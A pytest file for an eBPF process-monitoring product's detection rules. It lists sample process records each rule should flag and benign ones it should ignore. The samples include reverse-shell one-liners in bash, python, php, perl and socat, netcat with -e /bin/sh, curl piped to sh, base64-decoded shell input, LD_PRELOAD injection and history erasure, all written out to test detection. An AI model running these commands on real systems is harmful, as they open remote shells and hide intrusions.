"""Every rule that comes with the product: what it finds, and what it leaves in peace."""

import json
from pathlib import Path

import pytest
from process_records import NOW, RULES, engine, record

from ebpfsentinel.domains.process.events import ProcessFlag
from ebpfsentinel.domains.process.rule_file import RuleAction

SHELL = {"path": b"/usr/bin/dash"}
MEMFD = ProcessFlag.PROCESS_MEMFD | ProcessFlag.PROCESS_DELETED


def shell(line):
    return "execs", record("exec", 9, path=b"/usr/bin/bash", argv=["bash", "-c", line])


def program(path, *args, **values):
    return "execs", record("exec", 9, path=path.encode(), argv=[path, *args], **values)


CAUGHT = {
    "suspicious_temp_execution": [
        program("/tmp/x"),
        program("/dev/shm/a/b"),
        program("/usr/bin/dash", "/tmp/x.sh", flags=ProcessFlag.PROCESS_SCRIPT),
    ],
    "netcat_execute": [
        program("/usr/bin/nc.traditional", "-e", "/bin/sh", "10.0.0.1", "4444"),
        program("/usr/bin/ncat", "-lvnp", "1", "--exec", "/bin/sh"),
        program("/usr/bin/ncat", "-nve", "/bin/sh"),
    ],
    "reverse_shell_arguments": [
        shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        program("/usr/bin/python3.11", "-c", "import socket,os;s=socket.socket();os.dup2(s,0)"),
        program("/usr/bin/php", "-r", '$s=fsockopen ("1.2.3.4",1);exec("/bin/sh")'),
        program("/usr/bin/socat", "exec:sh,pty", "tcp:1.2.3.4:5"),
        program("/usr/bin/perl", "-e", 'use Socket;socket(S,2,1,6);exec("/bin/sh -i")'),
    ],
    "download_to_shell": [
        shell("curl -fsSL http://x/y | sh"),
        shell("wget -qO- http://x/y | sudo bash -s"),
        shell("curl http://x|/bin/sh"),
    ],
    "decoded_to_shell": [
        shell("echo aWQ= | base64 -d | sh"),
        shell("echo aWQ= | base64 --decode | /bin/bash -"),
        shell("base64 -d x | python3"),
    ],
    "memory_only_execution": [program("/memfd:x (deleted)", flags=MEMFD)],
    "deleted_executable": [
        program("/usr/bin/x (deleted)", flags=ProcessFlag.PROCESS_DELETED),
    ],
    "setuid_root_gained": [
        ("setuids", record("setuid", 9, old_uid=1000, old_euid=1000, uid=0, euid=0)),
        ("setuids", record("setuid", 9, old_uid=1000, old_euid=1000, uid=1000, euid=0)),
    ],
    "ptrace_other_user": [
        (
            "ptraces",
            record(
                "ptrace",
                9,
                uid=1000,
                request=16,
                target_pid=5,
                target_uid=0,
                flags=ProcessFlag.PROCESS_TARGET_KNOWN,
            ),
        ),
    ],
    "shell_from_web_server": [("execs", record("exec", 60, parent=(5, 50), **SHELL))],
    "crypto_miner": [
        program("/opt/xmrig-6.2"),
        program("/usr/bin/x", "-o", "stratum+tcp://pool:3333"),
    ],
    "kernel_thread_disguise": [
        program("/usr/bin/x", comm=b"[kworker/0:1]"),
        program("/usr/bin/kworker", comm=b"kworker"),
    ],
    "preload_by_arguments": [program("/usr/bin/env", "LD_PRELOAD=/opt/x.so", "ls")],
    "history_erased": [shell("unset HISTFILE"), program("/usr/bin/rm", "/root/.bash_history")],
    "hidden_executable": [program("/usr/lib/.hidden"), program("/dev/x")],
}

LEFT = [
    program("/usr/bin/ls", "/tmp/"),
    program("/usr/bin/nc", "-z", "localhost", "22"),
    shell("curl http://x -o y; sh y"),
    shell("base64 -d x > y"),
    shell("ls | shuf"),
    program("/usr/bin/curl", "http://x/y.sh"),
    program("/memfd:runc_cloned:/proc/self/exe (deleted)", flags=MEMFD),
    ("setuids", record("setuid", 9, old_uid=0, old_euid=0, uid=0, euid=0)),
    ("setuids", record("setuid", 9, old_uid=0, old_euid=0, uid=1000, euid=1000)),
    ("setuids", record("setuid", 9, old_uid=1000, old_euid=1000, uid=0, result=-1)),
    (
        "ptraces",
        record("ptrace", 9, uid=1, request=16, target_pid=5, target_uid=1, flags=1 << 12),
    ),
    ("execs", record("exec", 61, parent=(2, 20), **SHELL)),
    program("/usr/lib/x/.config/run"),
    program("/usr/bin/python3", "-m", "http.server"),
    program("/usr/sbin/nginx", comm=b"nginx"),
    program("/home/u/.local/bin/tool"),
]


@pytest.fixture(scope="module")
def judge():
    made = engine()
    made.feed("execs", record("exec", 5, path=b"/usr/sbin/nginx"), NOW)
    return made


@pytest.mark.parametrize("name", CAUGHT)
def test_a_rule_finds_what_it_is_for(judge, name):
    for source, row in CAUGHT[name]:
        found = {alert.rule_id for alert in judge.feed(source, row, NOW).alerts}
        assert name in found, bytes(row["path"][0]) if "path" in row.dtype.names else source


def test_ordinary_processes_are_left_in_peace(judge):
    for source, row in LEFT:
        assert not judge.feed(source, row, NOW).alerts


def test_every_rule_is_tested_explained_and_harmless():
    rules = json.loads(Path(RULES).read_text())["rules"]
    assert {rule["name"] for rule in rules} == set(CAUGHT)
    for rule in rules:
        assert rule["action"] == RuleAction.ALERT
        assert all(rule[key] for key in ("description", "recommendation", "technique"))
